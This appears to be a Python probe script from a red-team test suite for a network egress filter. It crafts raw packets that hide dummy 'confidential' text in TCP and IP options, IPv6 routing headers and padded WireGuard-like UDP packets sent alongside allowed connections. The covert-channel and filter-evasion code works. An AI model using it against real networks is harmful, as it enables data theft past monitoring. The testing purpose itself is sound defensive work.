#!/usr/bin/env python3
"""Raw senders for gate_probe.sh (run in the client namespace).
usage: gate_probe.py KIND SRC4 DST4 SRC6 DST6 MARK COUNT"""
import socket, struct, sys, time

def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def ip4(src, dst, proto, body, ident=0):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), ident & 0xffff, 0, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + body

def ip4_options(src, dst, proto, body, ident, options):
    h = struct.pack("!BBHHHBBH4s4s", 0x40 | (5 + len(options) // 4), 0, 20 + len(options) + len(body), ident, 0, 64,
                    proto, 0, socket.inet_aton(src), socket.inet_aton(dst)) + options
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + body

def https_request(af, src, dst, sport, wait=3):
    """A sniffer on eth0, then a real HTTPS request from SPORT to DST:443
    (allowed as encrypted); returns the open TLS socket and the sniffer,
    WAIT seconds after the reply, when the gate has decided."""
    import ssl
    sn = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sn.bind(("eth0", 0)); sn.setblocking(False)
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    t = socket.socket(af); t.bind((src, sport)); t.connect((dst, 443))
    c = ctx.wrap_socket(t)
    c.sendall(b"GET /bytes/100 HTTP/1.1\r\nHost: x\r\n\r\n")
    c.settimeout(2)
    try: c.recv(4000)
    except Exception: pass
    time.sleep(wait)
    return c, sn

def client_seq(sn, s4, sport):
    """From the frames sniffer SN caught: the next sequence number the
    client's IPv4 TCP port SPORT sends and the last it acknowledged."""
    seq = ack = None
    while True:
        try: f = sn.recv(70000)
        except BlockingIOError: break
        if f[12:14] != b"\x08\x00" or f[23] != 6: continue
        ip = f[14:]; ihl = (ip[0] & 15) * 4; tcp = ip[ihl:]
        if ip[12:16] == socket.inet_aton(s4) and struct.unpack("!H", tcp[0:2])[0] == sport:
            tl = struct.unpack("!H", ip[2:4])[0] - ihl - (tcp[12] >> 4) * 4
            seq = (struct.unpack("!I", tcp[4:8])[0] + tl + (1 if tcp[13] & 3 else 0)) & 0xffffffff
            ack = struct.unpack("!I", tcp[8:12])[0]
    return seq, ack

def wg_server(port):
    import os
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind(("0.0.0.0", port))
    ctr = 0
    while True:
        d, a = u.recvfrom(65535)
        if d[:1] == b"\x01" and len(d) == 148:
            u.sendto(b"\x02\0\0\0" + os.urandom(4) + d[4:8] + os.urandom(80), a)
        elif d[:1] == b"\x04":
            u.sendto(b"\x04\0\0\0" + d[4:8] + struct.pack("<Q", ctr) + os.urandom(80), a)
            ctr += 1

def wg_then_surplus(s4, d4, mark, count):
    import os
    text = (mark + " CONFIDENTIAL rotor blade alloy spec rev 7 ").encode() * 40
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((s4, 41040)); u.connect((d4, 51820)); u.settimeout(1.0)
    u.send(b"\x01\0\0\0" + b"\x11\x22\x33\x44" + os.urandom(140))
    got = 0
    for attempt in range(8):
        try:
            u.recv(2000); got += 1; break
        except socket.timeout:
            pass
    for c in range(6):
        u.send(b"\x04\0\0\0" + b"\x88\x77\x66\x55" + struct.pack("<Q", c) + os.urandom(1008))
        try:
            u.recv(2000); got += 1
        except socket.timeout:
            pass
    print("replies", got, flush=True)
    time.sleep(4)
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(int(count)):
        wg = b"\x04\0\0\0" + b"\x88\x77\x66\x55" + struct.pack("<Q", 6 + i) + os.urandom(240)
        body = struct.pack("!HHHH", 41040, 51820, 8 + len(wg), 0) + wg + text[:600]
        r4.sendto(ip4(s4, d4, 17, body, 4000 + i), (d4, 0))
        time.sleep(0.05)

def tls_optack(s4, d4, mark, count, ip_options=False):
    """A real HTTPS connection (allowed as encrypted), then bare ACKs at its
    current sequence numbers, each with a kind-253 option: the marker and
    text (with ip_options: in an IPv4 option of a kind nothing defines)."""
    sport = 41202 if ip_options else 41200
    c, sn = https_request(socket.AF_INET, s4, d4, sport)
    seq, ack = client_seq(sn, s4, sport)
    print("seq", seq, "ack", ack, flush=True)
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    body = (mark + " CONFIDENTIAL rotor blade alloy spec rev 7 ").encode() * 2
    for i in range(int(count)):
        opt = b"" if ip_options else bytes([253, 40]) + body[:38]
        tcp = struct.pack("!HHIIBBHHH", sport, 443, seq, ack, (5 + len(opt) // 4) << 4, 0x10, 64240, 0, 0) + opt
        ph = socket.inet_aton(s4) + socket.inet_aton(d4) + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
        if ip_options:
            r4.sendto(ip4_options(s4, d4, 6, tcp, 5000 + i, bytes([0x9e, 40]) + body[:38]), (d4, 0))
        else:
            r4.sendto(ip4(s4, d4, 6, tcp, 5000 + i), (d4, 0))
        time.sleep(0.05)
    time.sleep(0.5)
    c.close()

def tls6_srh(s6, d6, mark, count):
    """A real HTTPS connection over IPv6 (allowed as encrypted), then bare
    ACKs at its sequence numbers, each after a Segment Routing Header with
    segments left 0 whose 'segments' are the marker and text."""
    c, sn = https_request(socket.AF_INET6, s6, d6, 41201)
    seq = ack = None
    S6, D6 = socket.inet_pton(socket.AF_INET6, s6), socket.inet_pton(socket.AF_INET6, d6)
    while True:
        try: f = sn.recv(70000)
        except BlockingIOError: break
        if f[12:14] != b"\x86\xdd" or f[20] != 6: continue
        ip = f[14:]; tcp = ip[40:]
        if ip[8:24] == S6 and struct.unpack("!H", tcp[0:2])[0] == 41201:
            tl = struct.unpack("!H", ip[4:6])[0] - (tcp[12] >> 4) * 4
            seq = (struct.unpack("!I", tcp[4:8])[0] + tl + (1 if tcp[13] & 3 else 0)) & 0xffffffff
            ack = struct.unpack("!I", tcp[8:12])[0]
    print("seq", seq, "ack", ack, flush=True)
    r6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    text = (mark + " CONFIDENTIAL rotor blade alloy spec rev 7 ").encode() * 30
    for i in range(int(count)):
        tcp = struct.pack("!HHIIBBHHH", 41201, 443, seq, ack, 5 << 4, 0x10, 64240, 0, 0)
        ph = S6 + D6 + struct.pack("!IxxxB", len(tcp), 6)
        tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
        segs = text[:1024]
        srh = bytes([6, (8 + len(segs)) // 8 - 1, 4, 0, len(segs) // 16 - 1, 0, 0, 0]) + segs
        ip = struct.pack("!IHBB", 0x60000000, len(srh) + len(tcp), 43, 64) + S6 + D6
        r6.sendto(ip + srh + tcp, (d6, 0))
        time.sleep(0.05)
    time.sleep(0.5)
    c.close()

# SYNs to cn:8443, each with these options (t: the text from this SYN's offset).
SYN_OPTIONS = {
    # a kind nothing defines, 38 bytes of text
    "tcp-optsyn": lambda t: bytes([253, 40]) + t[:38],
    # a known kind at the wrong length: "timestamps" of 38 bytes
    "tcp-tslen": lambda t: bytes([8, 40]) + t[:38],
    # timestamps twice, each carrying 8 bytes of text, then more text in a third
    "tcp-tstwice": lambda t: b"".join(b"\x01\x01\x08\x0a" + t[8 * k:8 * k + 8] for k in range(3)) + b"\x01\x01\x01\x01",
    # SACK blocks in a SYN: 32 bytes of "edges"
    "tcp-synsack": lambda t: b"\x01\x01\x08\x0a" + t[:8] + b"\x01\x01\x05\x1a" + t[8:32],
    # text after an end-of-list
    "tcp-eoltext": lambda t: b"\x02\x04\x05\xb4\x00" + t[:35],
    # controls, the layouts of real stacks: Windows; macOS; Linux
    "tcp-syn-windows": lambda t: bytes.fromhex("020405b4 01030308 01010402"),
    "tcp-syn-macos": lambda t: bytes.fromhex("020405b4 01030306 0101080a 12345678 00000000 04020000"),
    "tcp-syn-linux": lambda t: bytes.fromhex("020405b4 0402080a 12345678 00000000 01030307"),
}

def ack_flood(s4, d4, mark, count):
    """A connection to a silent server on cn:9000 (undecided: no data), then
    COUNT bare ACKs at its sequence numbers whose timestamps carry text."""
    sn = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sn.bind(("eth0", 0)); sn.setblocking(False)
    t = socket.socket(); t.bind((s4, 41300)); t.connect((d4, 9000))
    time.sleep(0.3)
    seq, ack = client_seq(sn, s4, 41300)
    print("seq", seq, "ack", ack, flush=True)
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    text = (mark + " CONFIDENTIAL rotor blade alloy spec rev 7 ").encode() * 40
    t0 = time.monotonic()
    for i in range(int(count)):
        opt = b"\x01\x01\x08\x0a" + text[8 * i:8 * i + 8]
        tcp = struct.pack("!HHIIBBHHH", 41300, 9000, seq, ack, 8 << 4, 0x10, 64240, 0, 0) + opt
        ph = socket.inet_aton(s4) + socket.inet_aton(d4) + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
        r4.sendto(ip4(s4, d4, 6, tcp, 6000 + i), (d4, 0))
    print("seconds %.3f" % (time.monotonic() - t0), flush=True)
    time.sleep(0.3)
    t.close()

def main():
    if sys.argv[1] == "wg-server":
        return wg_server(int(sys.argv[2]))
    kind, s4, d4, s6, d6, mark, count = sys.argv[1:8]
    if kind == "tls6-srh":
        return tls6_srh(s6, d6, mark, count)
    if kind == "tcp-ackflood":
        return ack_flood(s4, d4, mark, count)
    if kind == "tls-optack":
        return tls_optack(s4, d4, mark, count)
    if kind == "tls-ipopt":
        return tls_optack(s4, d4, mark, count, ip_options=True)
    if kind == "wg-surplus":
        return wg_then_surplus(s4, d4, mark, count)
    text = (mark + " CONFIDENTIAL rotor blade alloy spec rev 7 ").encode() * 40
    text = text[:1200]
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    if kind in ("udp-surplus-wait", "v6-nonext-wait"):
        # first an empty packet of the flow; wait for the gate to judge it
        if kind == "udp-surplus-wait":
            r4.sendto(ip4(s4, d4, 17, struct.pack("!HHHH", 41031, 9999, 8, 0), 999), (d4, 0))
        else:
            socket.socket(socket.AF_INET6, socket.SOCK_RAW, 59).sendto(b"", (d6, 0))
        time.sleep(float(sys.argv[8]) if len(sys.argv) > 8 else 5)
        kind = kind[:-5]
        sport = 41031
    else:
        sport = 41030
    for i in range(int(count)):
        if kind == "udp-surplus":
            body = struct.pack("!HHHH", sport, 9999, 8, 0) + text
            r4.sendto(ip4(s4, d4, 17, body, 1000 + i), (d4, 0))
        elif kind == "udp-plain":   # control
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.sendto(text, (d4, 9998))
        elif kind == "v6-nonext":
            r6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 59)
            r6.sendto(text, (d6, 0))
        elif kind == "tcp-doff4":
            tcp = struct.pack("!HHIIBBHHH", 41072, 80, 1000 + i * 1200, 0, 4 << 4, 0x18, 64240, 0, 0) + text
            r4.sendto(ip4(s4, d4, 6, tcp, 2000 + i), (d4, 0))
        elif kind in SYN_OPTIONS:
            opt = SYN_OPTIONS[kind](text[i * 38 % 1100:])
            # each kind its own source ports: no conntrack entry of an earlier kind's SYN meets it
            sport = 42000 + 10 * list(SYN_OPTIONS).index(kind) + i
            tcp = struct.pack("!HHIIBBHHH", sport, 8443, 7777, 0, (5 + len(opt) // 4) << 4, 0x02,
                              64240, 0, 0) + opt
            ph = socket.inet_aton(s4) + socket.inet_aton(d4) + struct.pack("!BBH", 0, 6, len(tcp))
            tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
            r4.sendto(ip4(s4, d4, 6, tcp, 3000 + i), (d4, 0))
            if kind.startswith("tcp-syn-"):  # the controls: retransmitted once, as a stack would
                time.sleep(0.02)
                r4.sendto(ip4(s4, d4, 6, tcp, 3000 + i), (d4, 0))
        time.sleep(0.05)

if __name__ == "__main__":  # tests/redteam4/gate_probe4.py imports its helpers
    main()
